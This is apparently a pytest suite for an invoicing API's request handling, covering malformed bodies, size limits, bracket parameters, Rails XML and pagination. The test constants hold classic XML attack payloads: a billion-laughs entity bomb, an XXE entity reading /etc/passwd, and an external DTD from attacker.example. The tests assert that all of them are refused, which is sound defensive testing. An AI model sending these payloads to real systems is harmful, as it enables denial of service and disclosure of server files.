"""The wire machinery itself (facturagem.api, CONTRACT §1–5): bodies that are malformed,
hostile, too large or of an unknown type; Rack's bracket parameters; Rails XML in and out;
pagination parameters; verb overrides; the error bodies. Whatever arrives, never a 500."""

import datetime
import json
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest
from defusedxml.ElementTree import fromstring
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import RequestFactory

from accounts.models import Account
from countries.models import Country
from facturagem.api import pagination, params, xml
from facturagem.api.authentication import INVALID_API_KEY, MISSING_API_KEY
from facturagem.api.exceptions import (
    BODY_TOO_LARGE,
    NOT_FOUND,
    TOO_MANY_FIELDS,
    UnprocessableEntity,
    flatten_errors,
)
from facturagem.api.parsers import MALFORMED_JSON

FORM = "application/x-www-form-urlencoded"
XML = "application/xml"


def account_url(persona, fmt: str = "json") -> str:
    return f"/api/v1/accounts/{persona.account.url_id}.{fmt}"


def name_of(persona) -> str:
    return Account.objects.get(pk=persona.account.pk).name


def base_errors(response) -> list[str]:
    """The messages of a 400/413 body: `{"errors": {"base": [...]}}`."""
    body = response.json()
    assert set(body) == {"errors"}
    return body["errors"]["base"]


# -- hostile and malformed bodies --------------------------------------------------------


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<account><name>&lol9;</name></account>"""

EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE account [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<account><name>&xxe;</name></account>"""

EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE account SYSTEM "http://attacker.example/evil.dtd">
<account><name>Evil</name></account>"""

BAD_BODIES = {
    "truncated JSON": ("application/json", '{"name": "Acme"'),
    "JSON with a trailing comma": ("application/json", '{"name": "Acme",}'),
    "JSON NaN": ("application/json", '{"default_irpf_percent": NaN}'),
    "JSON that is not UTF-8": ("application/json", b'{"name": "\xff\xfe"}'),
    "JSON list": ("application/json", "[1, 2, 3]"),
    "JSON list of objects": ("application/json", '[{"name": "Acme"}]'),
    "JSON number": ("application/json", "42"),
    "JSON string": ("application/json", '"Acme"'),
    "JSON true": ("application/json", "true"),
    "JSON nested 10,000 deep in lists": ("application/json", "[" * 10_000 + "]" * 10_000),
    "JSON nested 10,000 deep in objects": (
        "application/json",
        '{"a":' * 10_000 + "1" + "}" * 10_000,
    ),
    "JSON nested 100 deep": ("application/json", '{"name":' * 100 + '"x"' + "}" * 100),
    "malformed XML": (XML, "<account><name>Acme</account>"),
    "XML that is only text": (XML, "<account>Acme</account>"),
    "not XML at all": (XML, "name=Acme"),
    "XML nested 10,000 deep": (XML, "<a>" * 10_000 + "</a>" * 10_000),
    "XML billion laughs": (XML, BILLION_LAUGHS),
    "XML external entity": (XML, EXTERNAL_ENTITY),
    "XML external DTD": (XML, EXTERNAL_DTD),
    "text/xml billion laughs": ("text/xml", BILLION_LAUGHS),
    "form with a bracket conflict": (FORM, "name=Acme&name%5Bfirst%5D=Acme"),
    "form nested 40 deep": (FORM, "name" + "%5Bx%5D" * 40 + "=1"),
}


@pytest.mark.parametrize("content_type, body", BAD_BODIES.values(), ids=BAD_BODIES.keys())
def test_a_malformed_or_hostile_body_is_400_with_errors(api, alice, content_type, body):
    response = api.send("PUT", account_url(alice), body, key=alice.api_key,
                        content_type=content_type)

    assert response.status_code == 400, response.content
    assert base_errors(response)
    assert name_of(alice) == "Kovacek Nienow SL"


def test_malformed_json_says_so(api, alice):
    response = api.send("PUT", account_url(alice), '{"name": ', key=alice.api_key)

    assert base_errors(response)[0].startswith(MALFORMED_JSON.split("{")[0])


@pytest.mark.parametrize("body", [BILLION_LAUGHS, EXTERNAL_ENTITY], ids=["laughs", "xxe"])
def test_xml_entities_are_never_expanded(api, alice, body):
    response = api.send("PUT", account_url(alice, "xml"), body, key=alice.api_key,
                        content_type=XML)

    assert response.status_code == 400
    assert b"lollol" not in response.content
    assert b"root:" not in response.content
    assert fromstring(response.content).tag == "errors"
    assert name_of(alice) == "Kovacek Nienow SL"


def test_a_json_null_body_is_no_parameters(api, alice):
    response = api.send("PUT", account_url(alice), "null", key=alice.api_key)

    assert response.status_code == 200
    assert name_of(alice) == "Kovacek Nienow SL"


def test_an_xml_body_in_another_encoding_is_read_by_its_declaration(api, alice):
    body = '<?xml version="1.0" encoding="ISO-8859-1"?><account><city>Málaga</city></account>'

    response = api.send("PUT", account_url(alice), body.encode("iso-8859-1"),
                        key=alice.api_key, content_type=XML)

    assert response.status_code == 200
    assert Account.objects.get(pk=alice.account.pk).city == "Málaga"


@pytest.mark.parametrize("content_type", ["text/plain", "application/octet-stream", "image/png"])
def test_a_body_of_an_unknown_content_type_is_415_with_errors(api, alice, content_type):
    response = api.send("PUT", account_url(alice), "name=Acme", key=alice.api_key,
                        content_type=content_type)

    assert response.status_code == 415
    assert response.json()["errors"]


def test_an_empty_body_of_an_unknown_content_type_is_no_body(api, alice):
    response = api.send("GET", account_url(alice), key=alice.api_key, content_type="text/plain")

    assert response.status_code == 200


# -- too much -----------------------------------------------------------------------------


@pytest.fixture
def small_limits(settings):
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 2_000
    settings.DATA_UPLOAD_MAX_NUMBER_FIELDS = 10
    return settings


LONG = "x" * 3_000

TOO_LARGE = {
    "JSON": ("PUT", "json", "application/json", json.dumps({"name": LONG})),
    "XML": ("PUT", "json", XML, f"<account><name>{LONG}</name></account>"),
    "text/xml": ("PUT", "json", "text/xml", f"<account><name>{LONG}</name></account>"),
    "form": ("PUT", "json", FORM, f"name={LONG}"),
    "form POST with _method": ("POST", "json", FORM, f"_method=put&name={LONG}"),
    "form POST to a view without POST": ("POST", "json", FORM, f"name={LONG}"),
}


@pytest.mark.parametrize("method, fmt, content_type, body", TOO_LARGE.values(),
                         ids=TOO_LARGE.keys())
def test_a_body_over_the_limit_is_413_in_every_format(
    api, alice, small_limits, method, fmt, content_type, body
):
    response = api.send(method, account_url(alice, fmt), body, key=alice.api_key,
                        content_type=content_type)

    assert response.status_code == 413
    assert base_errors(response) == [BODY_TOO_LARGE]
    assert name_of(alice) == "Kovacek Nienow SL"


def test_a_multipart_body_over_the_limit_is_413(api, alice, small_limits):
    response = api.post(account_url(alice), {"_method": "put", "name": LONG},
                        HTTP_X_API_KEY=alice.api_key)

    assert response.status_code == 413
    assert base_errors(response) == [BODY_TOO_LARGE]


def test_a_413_refused_before_any_view_is_in_xml_for_an_xml_url(api, alice, small_limits):
    response = api.send("POST", account_url(alice, "xml"), f"_method=put&name={LONG}",
                        key=alice.api_key, content_type=FORM)

    assert response.status_code == 413
    root = fromstring(response.content)
    assert (root.tag, root.get("type")) == ("errors", "array")
    assert [error.text for error in root] == [BODY_TOO_LARGE]


MANY_FIELDS = "&".join(f"f{i}=1" for i in range(20))


@pytest.mark.parametrize(
    "method, path_suffix, content_type, body",
    [
        ("GET", f"?{MANY_FIELDS}", "application/json", ""),
        ("PUT", "", FORM, MANY_FIELDS),
        ("POST", "", FORM, f"_method=put&{MANY_FIELDS}"),
        ("POST", f"?_method=put&{MANY_FIELDS}", "application/json", ""),
    ],
    ids=["query string", "form", "form POST with _method", "query string POST"],
)
def test_too_many_parameters_is_400(
    api, alice, small_limits, method, path_suffix, content_type, body
):
    response = api.send(method, account_url(alice) + path_suffix, body, key=alice.api_key,
                        content_type=content_type)

    assert response.status_code == 400
    assert base_errors(response)


def test_too_many_parameters_before_any_view_says_so(api, alice, small_limits):
    response = api.send("POST", account_url(alice), f"_method=put&{MANY_FIELDS}",
                        key=alice.api_key, content_type=FORM)

    assert base_errors(response) == [TOO_MANY_FIELDS]


@pytest.mark.parametrize("method", ["POST", "PUT"])
def test_a_malformed_multipart_body_is_400_with_errors(api, alice, method):
    response = api.send(method, account_url(alice), "garbage", key=alice.api_key,
                        content_type="multipart/form-data")

    assert response.status_code == 400
    assert base_errors(response)


# -- strange values echoed back -----------------------------------------------------------


@pytest.mark.parametrize("fmt", ["json", "xml"])
def test_a_lone_surrogate_in_a_json_body_is_read_as_a_replacement_character(api, alice, fmt):
    # Input text is normalised once, in the machinery: no text of ours can hold a lone
    # surrogate (UTF-8, XML and PostgreSQL refuse it), so it is U+FFFD, as Django reads
    # invalid UTF-8 in a query string.
    response = api.send("PUT", account_url(alice, fmt), '{"name": "Acme \\ud800"}',
                        key=alice.api_key)

    assert response.status_code == 200
    assert name_of(alice) == "Acme \ufffd"


@pytest.mark.parametrize("fmt", ["json", "xml"])
def test_a_lone_surrogate_in_a_parameter_name_is_422_not_500(api, alice, fmt):
    response = api.send("PUT", account_url(alice, fmt), '{"\\udfff": 1}', key=alice.api_key)

    assert response.status_code == 422
    response.content.decode("utf-8")


@pytest.mark.parametrize(
    "query", ["?foo%01=1", "?%3Cx%3E=1", "?1st=1", "?foo+bar=1", "?a%3Ab=1", "?%C3%B1=1"]
)
def test_strange_parameter_names_still_give_well_formed_xml(api, alice, query):
    response = api.send("GET", account_url(alice, "xml") + query, key=alice.api_key)

    assert response.status_code == 422
    root = fromstring(response.content)
    assert len(root.findall("error")) == 1


def test_errors_about_strange_parameter_names_give_well_formed_xml(api, alice):
    body = {"tax_id": "B12345670", "foo bar": "1", "1st\x01": "\x01", "a:b": "2"}

    response = api.send("PUT", account_url(alice, "xml"), body, key=alice.api_key)

    assert response.status_code == 422
    root = fromstring(response.content)
    assert [error.text for error in root.findall("error")] == [
        "1st\ufffd is not an allowed parameter", "A:b is not an allowed parameter",
        "Foo bar is not an allowed parameter",
    ]


@pytest.mark.parametrize("fmt", ["json", "xml"])
def test_a_file_where_a_text_is_expected_is_422_not_500(api, alice, fmt):
    upload = SimpleUploadedFile("logo.png", b"\x89PNG...", content_type="image/png")

    response = api.post(account_url(alice, fmt), {"_method": "put", "name": upload},
                        HTTP_X_API_KEY=alice.api_key)

    assert response.status_code == 422
    if fmt == "json":
        assert response.json()["name"] == "logo.png"
        assert "name" in response.json()["errors"]


# -- URLs, verbs and the 401 ---------------------------------------------------------------


@pytest.mark.parametrize(
    "path",
    ["/api/v1/whatever", "/api/v1/whatever.json", "/api/v1/accounts/1/nothing.json",
     "/api/v2/accounts.json", "/api/", "/api/v1/session/extra.json"],
)
def test_an_unknown_api_url_is_404_in_json(api, db, path):
    response = api.send("GET", path)

    assert response.status_code == 404
    assert response.json() == {"errors": [NOT_FOUND]}


@pytest.mark.parametrize("fmt", ["json", "xml"])
@pytest.mark.parametrize(
    "key, message", [(None, MISSING_API_KEY), ("wrong", INVALID_API_KEY)],
    ids=["no key", "wrong key"],
)
def test_the_401_body_is_a_list_of_errors(api, alice, fmt, key, message):
    response = api.send("GET", f"/api/v1/accounts.{fmt}", key=key)

    assert response.status_code == 401
    assert response.has_header("WWW-Authenticate")
    if fmt == "json":
        assert response.json() == {"errors": [message]}
    else:
        root = fromstring(response.content)
        assert (root.tag, root.get("type")) == ("errors", "array")
        assert [error.text for error in root] == [message]


OVERRIDES = {
    "?_method=put": ("?_method=put", {}, "application/json", '{"city": "Vigo"}'),
    "?_method=PATCH": ("?_method=PATCH", {}, "application/json", '{"city": "Vigo"}'),
    "form _method=put": ("", {}, FORM, "_method=put&city=Vigo"),
    "form _method=put after the fields": ("", {}, FORM, "city=Vigo&_method=PUT"),
    "X-Http-Method-Override": (
        "", {"HTTP_X_HTTP_METHOD_OVERRIDE": "PUT"}, "application/json", '{"city": "Vigo"}'
    ),
}


@pytest.mark.parametrize("query, headers, content_type, body", OVERRIDES.values(),
                         ids=OVERRIDES.keys())
def test_a_post_with_method_override_is_that_verb(
    api, alice, query, headers, content_type, body
):
    response = api.send("POST", account_url(alice) + query, body, key=alice.api_key,
                        content_type=content_type, **headers)

    assert response.status_code == 200, response.content
    assert Account.objects.get(pk=alice.account.pk).city == "Vigo"


@pytest.mark.parametrize(
    "query, content_type, body",
    [
        ("", "application/json", '{"_method": "put", "city": "Vigo"}'),
        ("?_method=get", "application/json", '{"city": "Vigo"}'),
        ("?_method=trace", "application/json", '{"city": "Vigo"}'),
    ],
    ids=["_method in a JSON body", "_method=get", "_method=trace"],
)
def test_only_forms_and_the_query_string_override_and_only_to_write_verbs(
    api, alice, query, content_type, body
):
    response = api.send("POST", account_url(alice) + query, body, key=alice.api_key,
                        content_type=content_type)

    assert response.status_code == 405
    assert Account.objects.get(pk=alice.account.pk).city == ""


def test_a_get_is_never_overridden(api, alice):
    response = api.send("GET", f"/api/v1/session.json?_method=delete&api_key={alice.api_key}")

    assert response.status_code == 200
    assert api.send("GET", "/api/v1/session.json", key=alice.api_key).status_code == 200


def test_an_unsupported_verb_is_405_before_parameters_are_checked(api, alice):
    response = api.send("POST", "/api/v1/accounts.json", {"bogus": "1"}, key=alice.api_key)

    assert response.status_code == 405
    assert "allowed_params" not in response.json()


# -- Rack bracket parameters (facturagem.api.params) ---------------------------------------


@pytest.mark.parametrize(
    "pairs, expected",
    [
        ([("name", "Acme")], {"name": "Acme"}),
        ([("name", "")], {"name": ""}),
        ([("client[name]", "Acme")], {"client": {"name": "Acme"}}),
        ([("client[address][city]", "Vigo")], {"client": {"address": {"city": "Vigo"}}}),
        ([("tags[]", "a"), ("tags[]", "b")], {"tags": ["a", "b"]}),
        ([("a[b][]", "1"), ("a[b][]", "2")], {"a": {"b": ["1", "2"]}}),
        (
            [
                ("invoice[lines][][description]", "Diseño"),
                ("invoice[lines][][quantity]", "2"),
                ("invoice[lines][][description]", "Hosting"),
                ("invoice[lines][][quantity]", "1"),
            ],
            {"invoice": {"lines": [
                {"description": "Diseño", "quantity": "2"},
                {"description": "Hosting", "quantity": "1"},
            ]}},
        ),
        (
            [
                ("invoice[lines][][description]", "Diseño"),
                ("invoice[lines][][description]", "Hosting"),
                ("invoice[lines][][quantity]", "1"),
            ],
            {"invoice": {"lines": [
                {"description": "Diseño"},
                {"description": "Hosting", "quantity": "1"},
            ]}},
        ),
        (
            [("lines[][tax][rate]", "21"), ("lines[][tax][rate]", "10")],
            {"lines": [{"tax": {"rate": "21"}}, {"tax": {"rate": "10"}}]},
        ),
        ([("name", "first"), ("name", "last")], {"name": "last"}),
    ],
    ids=[
        "flat", "blank", "wrapped", "nested", "array", "nested array",
        "a repeated key starts the next item", "a missing key keeps filling the item",
        "hashes inside array items", "the last of a repeated plain key wins",
    ],
)
def test_from_pairs_reads_rack_brackets(pairs, expected):
    assert params.from_pairs(pairs) == expected


@pytest.mark.parametrize(
    "pairs",
    [
        [("a", "1"), ("a[b]", "2")],
        [("a", "1"), ("a[]", "2")],
        [("a[b]", "1"), ("a[]", "2")],
        [("a[]", "1"), ("a[b]", "2")],
        [("a[b]", "1"), ("a[][c]", "2")],
        [("a" + "[b]" * (params.MAX_DEPTH + 2), "1")],
    ],
    ids=["scalar then hash", "scalar then array", "hash then array", "array then hash",
         "hash then array of hashes", "too deep"],
)
def test_conflicting_or_absurd_brackets_are_a_params_error(pairs):
    with pytest.raises(params.ParamsError):
        params.from_pairs(pairs)


def test_indexed_brackets_are_a_list_in_numeric_order():
    collected = params.collect(
        query_string="invoice[lines][0][description]=A&invoice[lines][10][description]=C"
        "&invoice[lines][2][description]=B&invoice[lines][2][quantity]=3",
        body=None,
        wrapper="invoice",
    )

    assert collected == {
        "lines": [{"description": "A"}, {"description": "B", "quantity": "3"}, {"description": "C"}]
    }


def test_collect_unwraps_the_resource_and_lets_the_body_win_over_the_query():
    collected = params.collect(
        query_string="api_key=k&name=from+query&city=Vigo",
        body={"account": {"name": "from body"}, "strict": "false"},
        wrapper="account",
    )

    assert collected == {"api_key": "k", "name": "from body", "city": "Vigo", "strict": "false"}


def test_collect_leaves_another_resources_wrapper_alone():
    collected = params.collect(query_string="", body={"client": {"name": "x"}}, wrapper="account")

    assert collected == {"client": {"name": "x"}}


@pytest.mark.parametrize("body", [[1, 2], 42, "Acme", True])
def test_collect_refuses_a_body_that_is_not_an_object(body):
    with pytest.raises(params.ParamsError, match=params.BODY_NOT_AN_OBJECT):
        params.collect(query_string="", body=body, wrapper="account")


def test_the_query_string_is_read_as_utf8_even_when_wsgi_says_latin1():
    request = RequestFactory().get("/api/v1/accounts.json?city=Málaga&name=Peña%20SL")

    assert params.query_string(request) == "city=Málaga&name=Peña%20SL"


@pytest.mark.parametrize(
    "value, strict",
    [("true", True), ("1", True), ("", True), ("yes", True), (None, True),
     ("false", False), ("0", False), ("FALSE", False), (" false ", False), (False, False)],
)
def test_strict_is_off_only_for_false_or_zero(value, strict):
    given = {} if value is None else {"strict": value}

    assert params.is_strict(given) is strict


@pytest.mark.parametrize(
    "given, allowed, expected",
    [
        ({"name": "x"}, ["name"], []),
        ({"name": "x", "bogus": "1", "also": "2"}, ["name"], ["also", "bogus"]),
        ({"name": {"first": "x"}}, ["name"], []),
        ({"lines": [{"description": "a"}]}, ["lines[][description]"], []),
        ({"lines": [{"description": "a", "bogus": 1}]}, ["lines[][description]"],
         ["lines[][bogus]"]),
        ({"lines": ["text"]}, ["lines[][description]"], ["lines"]),
        ({"address": {"city": "x", "bogus": 1}}, ["address[city]"], ["address[bogus]"]),
    ],
)
def test_unexpected_names_parameters_in_bracket_notation(given, allowed, expected):
    assert params.unexpected(given, allowed) == expected


def test_echo_never_repeats_credentials_or_switches():
    echoed = params.echo({"name": "Acme", "api_key": "k", "password": "p", "strict": "0",
                          "_method": "put", "format": "json", "page": "2"})

    assert echoed == {"name": "Acme"}


def test_flatten_errors_names_nested_fields():
    detail = {
        "lines": [{}, {"quantity": ["bad"]}],
        "non_field_errors": ["whole"],
        "client": {"name": ["missing"]},
    }

    assert flatten_errors(detail) == {
        "lines[1].quantity": ["bad"],
        "base": ["whole"],
        "client.name": ["missing"],
    }


# -- Rails XML (facturagem.api.xml) --------------------------------------------------------


MADRID = ZoneInfo("Europe/Madrid")
TYPED = {
    "id": 7,
    "name": "Peña & Hijos <SL>",
    "tax_id": None,
    "total": Decimal("1210.00"),
    "paid": True,
    "equivalence_surcharge": False,
    "issue_date": datetime.date(2026, 1, 31),
    "created_at": datetime.datetime(2026, 1, 31, 10, 30, tzinfo=MADRID),
    "lines": [{"description": "Diseño", "quantity": Decimal("2.000")}],
    "payments": [],
    "links": [{"rel": "self", "uri": "https://x.example/api/v1/invoices/7-f1.xml"}],
}


def test_to_xml_writes_rails_conventions():
    document = xml.to_xml("invoice", TYPED)

    assert document.startswith(b'<?xml version="1.0" encoding="UTF-8"?>\n<invoice>')
    root = fromstring(document)
    assert root.find("id").attrib == {"type": "integer"}
    assert root.find("name").attrib == {}
    assert root.find("name").text == "Peña & Hijos <SL>"
    assert root.find("tax-id").attrib == {"nil": "true"}
    assert (root.find("total").get("type"), root.find("total").text) == ("decimal", "1210.00")
    assert (root.find("paid").get("type"), root.find("paid").text) == ("boolean", "true")
    assert root.find("equivalence-surcharge").text == "false"
    assert (root.find("issue-date").get("type"), root.find("issue-date").text) == (
        "date", "2026-01-31"
    )
    assert (root.find("created-at").get("type"), root.find("created-at").text) == (
        "datetime", "2026-01-31T10:30:00+01:00"
    )
    assert root.find("lines").get("type") == "array"
    assert root.find("lines/line/quantity").text == "2.000"
    assert root.find("payments").attrib == {"type": "array"}
    assert len(root.find("payments")) == 0
    assert root.find("links/link/rel").text == "self"


def test_from_xml_reads_back_what_to_xml_wrote_as_text():
    root, value = xml.from_xml(xml.to_xml("invoice", TYPED))

    assert root == "invoice"
    assert value == {
        "id": "7",
        "name": "Peña & Hijos <SL>",
        "tax_id": None,
        "total": "1210.00",
        "paid": "true",
        "equivalence_surcharge": "false",
        "issue_date": "2026-01-31",
        "created_at": "2026-01-31T10:30:00+01:00",
        "lines": [{"description": "Diseño", "quantity": "2.000"}],
        "payments": [],
        "links": [{"rel": "self", "uri": "https://x.example/api/v1/invoices/7-f1.xml"}],
    }


def test_a_collection_is_a_typed_array_named_by_the_singular():
    document = xml.to_xml("countries", [{"code": "ES"}, {"code": "PT"}])

    root = fromstring(document)
    assert (root.tag, root.get("type")) == ("countries", "array")
    assert [child.tag for child in root] == ["country", "country"]
    assert fromstring(xml.to_xml("clients", [])).attrib == {"type": "array"}


@pytest.mark.parametrize(
    "plural, singular",
    [("clients", "client"), ("invoices", "invoice"), ("lines", "line"), ("taxes", "tax"),
     ("countries", "country"), ("addresses", "address"), ("allowed_params", "allowed-param"),
     ("links", "link"), ("payments", "payment")],
)
def test_items_of_an_array_are_named_by_the_singular(plural, singular):
    assert xml.singularize(plural) == singular


def test_errors_take_the_shape_of_rails_errors_to_xml():
    document = xml.errors_document({"tax_id": ["is not valid"], "base": ["Whole."]})

    assert document == (
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        b"<errors><error>Tax id is not valid</error><error>Whole.</error></errors>"
    )


def test_unexpected_parameters_list_what_is_allowed_under_the_same_root():
    document = xml.errors_document({"bogus": ["is not an allowed parameter"]}, ["a_b", "c"])

    root = fromstring(document)
    assert [error.text for error in root.findall("error")] == ["Bogus is not an allowed parameter"]
    assert root.find("allowed-params").get("type") == "array"
    assert [item.text for item in root.find("allowed-params")] == ["a_b", "c"]


@pytest.mark.parametrize(
    "text",
    ["\x00", "a\x01b", "\x08\x0b\x0c", "\x1f", "\ufffe", "\uffff", "\ud800", "a\udfffb",
     "]]>", "&amp;", "tab\tnew\nline\rreturn"],
)
def test_control_characters_never_produce_invalid_xml(text):
    document = xml.to_xml("account", {"name": text, "errors": {"name": [text]}})

    root = fromstring(document)
    assert root.find("name") is not None


def test_characters_xml_can_carry_survive_the_round_trip():
    text = "tab\tline\nEspaña ✓ 😀 ]]> &amp;"

    _root, value = xml.from_xml(xml.to_xml("account", {"name": text}))

    assert value == {"name": text}


@pytest.mark.parametrize("name", ["foo bar", "1st", "", "a:b", "<x>", "a\x01", "\ud800", "ñ"])
def test_any_parameter_name_becomes_a_well_formed_element(name):
    document = xml.to_xml("account", {name: "v", "errors": {name: ["m"]}})

    root = fromstring(document)
    assert len(root) == 2


@pytest.mark.parametrize(
    "document, expected",
    [
        ("<account><name/></account>", {"name": None}),
        ('<account><name nil="true"/></account>', {"name": None}),
        ('<account><name type="string"></name></account>', {"name": ""}),
        ('<account><lines type="array"/></account>', {"lines": []}),
        ("<account><tag>a</tag><tag>b</tag></account>", {"tag": ["a", "b"]}),
        ("<account>\n  <postal-code>28013</postal-code>\n</account>", {"postal_code": "28013"}),
    ],
)
def test_from_xml_reads_rails_shapes(document, expected):
    assert xml.from_xml(document.encode())[1] == expected


@pytest.mark.parametrize(
    "document",
    [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, "<a>", "", "not xml",
     "<a>" * 100 + "</a>" * 100],
    ids=["laughs", "xxe", "external dtd", "unclosed", "empty", "text", "too deep"],
)
def test_from_xml_refuses_unsafe_or_malformed_documents(document):
    with pytest.raises(xml.XMLParseError):
        xml.from_xml(document.encode())


# -- pagination parameters (facturagem.api.pagination) -------------------------------------


@pytest.fixture
def countries(db):
    return Country.objects.order_by("code")


def test_paginate_defaults_to_the_first_page_of_25(countries):
    page = pagination.paginate(countries, {})

    assert (page.number, page.per_page) == (1, pagination.DEFAULT_PER_PAGE)
    assert [c.code for c in page.items] == [c.code for c in countries[:25]]
    assert page.total == countries.count()


def test_per_page_over_100_is_clamped_to_100(countries):
    page = pagination.paginate(countries, {"per_page": "500"})

    assert page.per_page == pagination.MAX_PER_PAGE == 100
    assert len(page.items) == 100


def test_a_page_past_the_end_is_empty(countries):
    page = pagination.paginate(countries, {"page": "999", "per_page": "100"})

    assert page.items == []
    assert page.total == countries.count()


def test_the_second_page_follows_the_first(countries):
    page = pagination.paginate(countries, {"page": "2", "per_page": "10"})

    assert [c.code for c in page.items] == [c.code for c in countries[10:20]]


@pytest.mark.parametrize(
    "given, invalid",
    [
        ({"page": "0"}, ["page"]),
        ({"page": "abc"}, ["page"]),
        ({"page": "-1"}, ["page"]),
        ({"page": "1.5"}, ["page"]),
        ({"page": "²"}, ["page"]),
        ({"page": "١"}, ["page"]),
        ({"page": "1e3"}, ["page"]),
        ({"page": "9999999999"}, ["page"]),
        ({"page": ["1", "2"]}, ["page"]),
        ({"per_page": "-1"}, ["per_page"]),
        ({"per_page": "0"}, ["per_page"]),
        ({"per_page": "ten"}, ["per_page"]),
        ({"page": "0", "per_page": "x"}, ["page", "per_page"]),
    ],
)
def test_a_page_or_per_page_that_is_not_a_positive_integer_is_422(countries, given, invalid):
    with pytest.raises(UnprocessableEntity) as raised:
        pagination.paginate(countries, given)

    assert raised.value.errors == {name: [pagination.NOT_A_POSITIVE_INTEGER] for name in invalid}


@pytest.mark.parametrize("given", [{"page": ""}, {"page": " 2 "}, {"per_page": "100"}])
def test_blank_or_padded_numbers_are_read(countries, given):
    pagination.paginate(countries, given)


def test_pagination_headers_carry_the_total_and_rfc8288_links(countries):
    page = pagination.paginate(countries, {"page": "2", "per_page": "100"})

    headers = pagination.headers(
        page, url="https://x.example/api/v1/countries.json", query={"q": ["es"]}
    )

    assert headers["X-Total-Count"] == str(countries.count())
    links = dict(
        (part.split(";")[1].strip(), part.split(";")[0].strip(" <>"))
        for part in headers["Link"].split(",")
    )
    base = "https://x.example/api/v1/countries.json?q=es"
    assert links == {
        'rel="first"': f"{base}&page=1&per_page=100",
        'rel="prev"': f"{base}&page=1&per_page=100",
        'rel="next"': f"{base}&page=3&per_page=100",
        'rel="last"': f"{base}&page=3&per_page=100",
    }


def test_the_first_page_has_no_prev_and_the_last_no_next(countries):
    first = pagination.headers(pagination.paginate(countries, {}), url="u", query={})
    last = pagination.headers(
        pagination.paginate(countries, {"page": "3", "per_page": "100"}), url="u", query={}
    )

    assert 'rel="prev"' not in first["Link"]
    assert 'rel="next"' in first["Link"]
    assert 'rel="next"' not in last["Link"]
    assert 'rel="prev"' in last["Link"]
